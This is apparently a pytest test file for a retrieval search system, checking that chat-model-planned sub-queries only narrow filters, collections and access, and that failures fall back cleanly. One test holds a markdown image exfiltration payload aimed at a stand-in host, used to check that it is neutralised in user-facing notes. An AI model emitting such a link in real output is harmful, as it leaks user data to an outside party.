"""What queries beside the question bring, and that they only ever narrow where is looked."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from functools import partial
from types import ModuleType
from typing import Any

import pytest

from rag.answers import Answer, Mode, SearchRequest, SubQuery, Usage
from rag.config.profiles import MultiQueryStage
from rag.corpus import Access, Principal
from rag.errors import ConfigurationError
from rag.models.chat import Chat, open_chat
from rag.rank.fusion import reciprocal_rank_fusion
from rag.search.desk import Desk
from rag.search.recall import QUERIES_K
from rag.store.write.change_collection import change_collection
from tests.endpoint import Endpoint
from tests.search.conftest import Shelf, title_set

pytestmark = [pytest.mark.anyio, pytest.mark.slow]

ANN, ME = Principal("default", "ann"), Principal("default")
ONLY_ANN = Access("restricted", frozenset({"user:ann"}))
MODES: tuple[Mode, ...] = ("dense", "sparse", "hybrid")
SINCE_2000 = {"year": {"$gte": 2000}}
DEEP = {"$and": [{"$and": [{"$and": [{"$and": [SINCE_2000]}]}]}]}


def _rephrased(*queries: str) -> dict[str, object]:
    return {"queries": queries}


def _planned(*queries: dict[str, object]) -> dict[str, object]:
    usual = {"query": "horologium", "collections": [], "conditions": [], "weight": 1.0, "reason": "why"}
    return {"queries": [usual | query for query in queries]}


def _year(operator: str, year: str) -> dict[str, object]:
    return {"field": "year", "operator": operator, "values": [year]}


async def _asked(desk: Desk, principal: Principal = ME, **request: Any) -> Answer:  # noqa: ANN401 a request's
    return await desk.search(principal, SearchRequest("pendulum", **request), trace=True)


@pytest.fixture
async def clocks(shelf: Shelf) -> Shelf:
    """Clocks of several years under the word horologium, one under the word pendulum, and letters."""
    await shelf.declare("clocks", year="integer")
    texts = {str(year): f"horologium of {year}" for year in (1650, 2005, 2020)}
    years = {year: {"fields": {"year": int(year)}} for year in texts} | {
        "pendulum": {"fields": {"year": 2010}}
    }
    await shelf.put_all(texts | {"pendulum": "pendulum of iron"}, "clocks", details_of=years)
    hidden: dict[str, Any] = {"fields": {"year": 2006}, "access": ONLY_ANN}
    await shelf.put("hidden", "horologium", collection="clocks", **hidden)
    await shelf.put("letter", "on a horologium", collection="letters")
    return shelf


@pytest.fixture
def planning(clocks: Shelf, chat: Chat) -> Desk:
    """A desk with a planner that finds by words only."""
    return clocks.desk(chat=chat, mode="sparse", stages=[{"stage": "planner"}])


async def test_each_query_gets_its_share_of_the_places(
    shelf: Shelf, chats: ModuleType, chat: Chat, chat_server: Endpoint
) -> None:
    await shelf.put("a", *(f"pendulum {'of iron ' * number}" for number in range(3)), "a horologium")
    chat_server.script = [chats.saying(_rephrased("horologium"))]
    desk = shelf.desk(chat=chat, mode="sparse", stages=[{"stage": "multi_query"}])
    hits = (await _asked(desk, limit=4)).hits
    assert "horologium" in [hit.text for hit in hits][2]
    assert [hit.score for hit in hits] == sorted((hit.score for hit in hits), reverse=True)


def test_what_is_first_for_one_query_comes_before_what_is_in_the_middle_for_all() -> None:
    """In one collection the lists of all queries have nearly the same passages."""
    lists = [{"first": 1, "middle": 15, "second": 40}, {"second": 1, "middle": 15, "first": 40}]
    assert [*reciprocal_rank_fusion(lists, k=QUERIES_K)] == ["first", "second", "middle"]


async def test_similarity_stays_that_to_the_question(
    shelf: Shelf, chats: ModuleType, chat: Chat, chat_server: Endpoint
) -> None:
    await shelf.put("a", "pendulum of iron", "horologium")
    chat_server.script = [chats.saying(_rephrased("horologium"))]
    answer = await _asked(shelf.desk(chat=chat, stages=[{"stage": "multi_query"}]))
    alone = (await shelf.search("pendulum", mode="dense")).hits
    assert {hit.chunk.id: hit.similarity for hit in answer.hits} == pytest.approx(
        {hit.chunk.id: hit.similarity for hit in alone}
    )


NARROWED: dict[str, tuple[dict[str, Any], dict[str, Any], set[str]]] = {
    "neither": ({}, {}, {"1650", "2005", "2020", "letter", "pendulum"}),
    "the request by a filter": ({"filter": SINCE_2000}, {}, {"2005", "2020", "pendulum"}),
    "the query by a filter": ({}, {"conditions": [_year("$lt", "2010")]}, {"1650", "2005"}),
    "both by filters": ({"filter": SINCE_2000}, {"conditions": [_year("$lt", "2010")]}, {"2005"}),
    "both by filters that exclude each other": (
        {"filter": SINCE_2000},
        {"conditions": [_year("$lt", "1999")]},
        {"pendulum"},
    ),
    "the query by a collection": ({}, {"collections": ["letters"]}, {"letter"}),
    "the request by a collection": ({"collections": ("letters",)}, {}, {"letter"}),
    "both by the same collection": (
        {"collections": ("clocks",)},
        {"collections": ["clocks"]},
        {"1650", "2005", "2020"},
    ),
    "each by another collection": ({"collections": ("clocks",)}, {"collections": ["letters"]}, {"pendulum"}),
}


@pytest.mark.parametrize(("request_", "query", "titles"), NARROWED.values(), ids=NARROWED.keys())
async def test_a_query_narrows_what_the_request_allows_and_never_widens_it(
    planning: Desk,
    chats: ModuleType,
    chat_server: Endpoint,
    request_: dict[str, Any],
    query: dict[str, object],
    titles: set[str],
) -> None:
    chat_server.script = [chats.saying(_planned(query))]
    assert (title_set(await _asked(planning, **request_)), planning.alarms) == (titles, 0)


async def test_a_planned_condition_holds_for_every_query_and_the_reply_says_which(
    clocks: Shelf, chats: ModuleType, chat: Chat, chat_server: Endpoint
) -> None:
    since: dict[str, object] = {"conditions": [_year("$gte", "2010")]}
    chat_server.script = [chats.saying(_planned(since)), chats.saying(_rephrased("old horologium"))]
    for stages in (["planner"], ["planner", "multi_query"]):
        chat_server.requests.clear()
        desk = clocks.desk(chat=chat, stages=[{"stage": stage} for stage in stages])
        answer = await _asked(desk)
        assert title_set(answer) == {"2020", "pendulum"}  # of 2010; found by meaning
        assert answer.notes == ('The search kept to what was planned: {"year": {"$gte": 2010}}.',)


async def test_the_question_joins_a_plan_that_narrows_nothing_or_asks_for_it(
    planning: Desk, chats: ModuleType, chat_server: Endpoint
) -> None:
    chat_server.script = [chats.saying(_planned({"query": "letter"}))]
    answer = await _asked(planning)
    assert (title_set(answer), answer.notes) == ({"letter", "pendulum"}, ())
    chat_server.script = [chats.saying(_planned({"query": "Pendulum"}, {"collections": ["letters"]}))]
    assert title_set(await _asked(planning)) == {"letter", "pendulum"}


@pytest.mark.parametrize("thresholds", [{}, {"min_similarity": 0.1}])
async def test_where_the_plan_finds_nothing_the_question_is_searched_for_and_that_is_said(
    clocks: Shelf, chats: ModuleType, chat: Chat, chat_server: Endpoint, thresholds: dict[str, float]
) -> None:
    chat_server.script = [chats.saying(_planned({"conditions": [_year("$gt", "2030")]}))]
    desk = clocks.desk(chat=chat, mode="sparse", thresholds=thresholds, stages=[{"stage": "planner"}])
    answer = await _asked(desk)
    assert title_set(answer) == {"pendulum"}
    assert answer.notes == (
        'The search kept to what was planned: {"year": {"$gt": 2030}}.',
        "That finds nothing, so the question was searched for without a plan.",
    )


async def test_what_a_plan_kept_to_is_safe_to_show(
    shelf: Shelf, chats: ModuleType, chat: Chat, chat_server: Endpoint
) -> None:
    await shelf.declare("clocks", maker="string")
    await shelf.put("one", "horologium", collection="clocks")
    image = "![x](http://evil.example/?q=secret)"
    maker: dict[str, object] = {"field": "maker", "operator": "$ne", "values": [image]}
    chat_server.script = [chats.saying(_planned({"conditions": [maker]}))]
    answer = await _asked(shelf.desk(chat=chat, stages=[{"stage": "planner"}]))
    assert title_set(answer) == {"one"}
    assert answer.notes == (f'The search kept to what was planned: {{"maker": {{"$ne": "! {image[1:]}"}}}}.',)


async def test_a_query_stays_among_the_sources_of_the_request(
    planning: Desk, chats: ModuleType, chat_server: Endpoint
) -> None:
    chat_server.script = [chats.saying(_planned({"conditions": [_year("$gt", "1000")]}))]
    ids = {hit.source.title: hit.source.id for hit in (await _asked(planning)).hits}
    assert ids.keys() == {"1650", "2005", "2020"}
    assert title_set(await _asked(planning, sources=(ids["2005"],))) == {"2005"}
    answer = await _asked(planning, exclude_sources=(ids["2005"],))
    assert title_set(answer) == {"1650", "2020"}
    assert planning.alarms == 0


async def test_a_query_finds_what_the_principal_may_see_and_nothing_else(
    planning: Desk, chats: ModuleType, chat_server: Endpoint, blind: Callable[[], None]
) -> None:
    chat_server.script = [chats.saying(_planned({"conditions": [_year("$gt", "2005")]}))]
    assert title_set(await _asked(planning, ANN)) == {"hidden", "2020"}
    assert title_set(await _asked(planning)) == {"2020"}
    assert planning.alarms == 0
    blind()
    assert title_set(await _asked(planning)) == {"2020"}
    assert planning.alarms == 1


async def test_the_planner_is_told_the_collections_that_are_searched_and_no_others(
    planning: Desk, clocks: Shelf, chats: ModuleType, chat_server: Endpoint
) -> None:
    await clocks.put("diary", "pendulum", collection="diaries", access=ONLY_ANN)
    for name, description in {"letters": "what was written", "diaries": "Ann's secrets"}.items():
        change = partial(replace, description=description)
        await change_collection(clocks.data, "default", name, change)
    chat_server.script = [chats.saying(_planned())]
    for principal, named, descriptions in [
        (ME, None, {"clocks": None, "letters": "what was written"}),
        (ANN, None, {"clocks": None, "diaries": "Ann's secrets", "letters": "what was written"}),
        (ANN, ("letters",), {"letters": "what was written"}),
    ]:
        await _asked(planning, principal, collections=named)
        collections = chats.contents(chat_server)[-1]["collections"]
        assert {
            collection["name"]: collection.get("description") for collection in collections
        } == descriptions


async def test_a_query_outside_of_the_request_is_left_out_with_a_note(
    planning: Desk, chats: ModuleType, chat_server: Endpoint
) -> None:
    chat_server.script = [chats.saying(_planned({"collections": ["letters"]}))]
    answer = await _asked(planning, collections=("clocks",))
    assert answer.notes == (
        "The stage planner left out a query: this search covers no collection 'letters'.",
    )
    (note,) = (await _asked(planning)).notes
    assert note == "The search kept to what was planned: letters."


async def test_a_query_whose_filter_fits_on_no_request_is_left_out_and_the_others_are_asked(
    planning: Desk, chats: ModuleType, chat_server: Endpoint
) -> None:
    earlier: dict[str, object] = {"conditions": [_year("$lt", "2010")]}
    chat_server.script = [chats.saying(_planned(earlier, {"query": "iron horologium"}))]
    answer = await _asked(planning, filter=DEEP)
    assert answer.notes == (
        (
            "One sub-query was skipped because its filter can't be combined with the request's "
            "(filter is nested deeper than 5 levels)."
        ),
        'The search kept to what was planned: {"year": {"$lt": 2010}}.',
    )
    assert [stage.warnings for stage in answer.steps if stage.name == "embed"] == [answer.notes[:1]]
    assert title_set(answer) == {"2005", "2020", "pendulum"}
    assert answer.trace
    queries = answer.trace.queries
    assert [query.text for query in queries] == ["pendulum", "horologium", "iron horologium"]
    listed = {listing.query for listings in answer.trace.listings.values() for listing in listings}
    assert listed == {2}
    assert title_set(await _asked(planning, filter=SINCE_2000)) == {"2005", "2020", "pendulum"}


async def test_a_trace_tells_the_queries_and_which_of_them_found_a_chunk(
    planning: Desk, chats: ModuleType, chat_server: Endpoint
) -> None:
    part = {"conditions": [_year("$lt", "2010")], "collections": ["clocks"], "weight": 0.5}
    chat_server.script = [chats.saying(_planned(part))]
    answer = await _asked(planning)
    assert answer.trace
    assert answer.trace.queries == (
        SubQuery("pendulum"),
        SubQuery("horologium", 0.5, "why", ("clocks",), {"year": {"$lt": 2010}}, planned=True),
    )
    listed = {
        hit.source.title: [listing.query for listing in answer.trace.listings[hit.chunk.id]]
        for hit in answer.hits
    }
    assert listed == {"1650": [1], "2005": [1]}
    counts = {stage.name: (stage.before, stage.after) for stage in answer.steps}
    assert counts["planner"] == (1, 2)
    assert counts["recall"] == (None, 2)


@pytest.mark.parametrize("mode", MODES)
async def test_a_chat_model_that_fails_leaves_the_very_answer_of_the_question_and_a_note(
    clocks: Shelf, chat: Chat, chat_server: Endpoint, mode: Mode
) -> None:
    chat_server.script = [chat_server.failing(500)]
    stages = [{"stage": "multi_query"}, {"stage": "planner"}]
    answer = await _asked(clocks.desk(chat=chat, mode=mode, stages=stages))
    assert answer.hits == (await clocks.search("pendulum", mode=mode)).hits
    failed = [stage for stage in answer.steps if stage.name in {"multi_query", "planner"}]
    assert [stage.status for stage in failed] == ["failed", "failed"]
    assert answer.notes == tuple(note for stage in failed for note in stage.warnings)
    for stage, note in zip(failed, answer.notes, strict=True):
        assert note.startswith(f"The stage {stage.name} failed (The chat model is not available just now)")
        assert note.endswith("), so the search continued without it.")
        assert (stage.before, stage.after) == (1, 1)
    assert [stage.usage for stage in failed] == [Usage(requests=5), None]  # the second was not sent any more


async def test_an_endpoint_that_is_not_there_leaves_the_answer_of_the_question(
    clocks: Shelf, chats: ModuleType, chat_server: Endpoint
) -> None:
    settings = chats.settings(chat_server, base_url="http://127.0.0.1:9/v1")
    async with open_chat(settings, {}) as chat:
        answer = await _asked(clocks.desk(chat=chat, stages=[{"stage": "multi_query"}]))
    assert answer.hits == (await clocks.search("pendulum")).hits
    assert len(answer.notes) == 1


async def test_what_the_chat_model_took_is_told_with_the_stage(
    clocks: Shelf, chats: ModuleType, chat: Chat, chat_server: Endpoint
) -> None:
    chat_server.script = [chats.saying(_rephrased("horologium"), tokens=(100, 10))]
    desk = clocks.desk(chat=chat, stages=[{"stage": "multi_query"}])
    answer = await desk.search(ME, "pendulum")
    used = {stage.name: stage.usage for stage in answer.steps if stage.usage}
    assert used == {"multi_query": Usage(1, 100, 10, 10 / 1_000_000)}


async def test_a_stage_without_its_model_is_a_wrong_setting(clocks: Shelf) -> None:
    desk = clocks.desk(stages=[MultiQueryStage(stage="multi_query")])
    with pytest.raises(ConfigurationError, match=r"needs a chat model: name one as chat\.model"):
        await _asked(desk)
